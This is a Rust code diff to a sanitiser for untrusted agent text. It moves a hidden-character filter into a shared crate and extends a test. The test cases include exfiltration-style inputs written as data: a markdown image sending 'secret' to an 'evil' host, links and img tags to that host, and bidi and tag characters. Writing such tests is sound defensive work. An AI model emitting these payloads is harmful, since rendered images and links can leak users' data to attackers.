@@ -4,6 +4,7 @@
 //! or becomes a link, an image or markup where somebody renders it.
 
 use serde_json::{Map, Value};
+use tidegate_api::text::is_hidden;
 
 /// The key that everything from agents stands under.
 pub(super) const KEY: &str = "untrusted_text";
@@ -54,24 +55,6 @@ pub(super) fn block(text: &str, max: usize) -> String {
     block
 }
 
-/// Control characters of C0 and C1, separators, bidirectional controls, tags and what cannot be seen. Joiners stay:
-/// scripts need them.
-fn is_hidden(character: char) -> bool {
-    character.is_control()
-        || matches!(character,
-            '\u{ad}'
-            | '\u{61c}'
-            | '\u{180e}'
-            | '\u{200b}'
-            | '\u{200e}'
-            | '\u{200f}'
-            | '\u{2028}'..='\u{202e}'
-            | '\u{2060}'..='\u{206f}'
-            | '\u{feff}'
-            | '\u{fff9}'..='\u{fffb}'
-            | '\u{e0000}'..='\u{e0fff}')
-}
-
 /// Texts of one agent by name, the empty ones left out; each at most `max` bytes.
 pub(super) fn texts<'a>(texts: impl IntoIterator<Item = (&'a str, &'a str)>, max: usize) -> Value {
     let fenced = texts.into_iter().filter(|(_, text)| !text.is_empty());
@@ -94,7 +77,7 @@ mod tests {
         for (text, expected) in [
             ("connection to http://es:9200 failed", "connection to http://es:9200 failed"),
             ("\u{1b}[31mred\u{1b}[0m\r\n\0", "[31mred[0m "),
-            ("a\u{202e}b\u{200b}c\u{e0041}d", "abcd"),
+            ("a\u{202e}b\u{200b}c\u{e0041}\u{e0100}d", "abcd"),
             ("![x](http://evil/?q=secret)", "![x] (http://evil/?q=secret)"),
             ("[click][1] [1]: http://evil", "[click] [1] [1] : http://evil"),
             ("<img src=http://evil><http://evil></a><!--", "‹img src=http://evil>‹http://evil>‹/a>‹!--"),
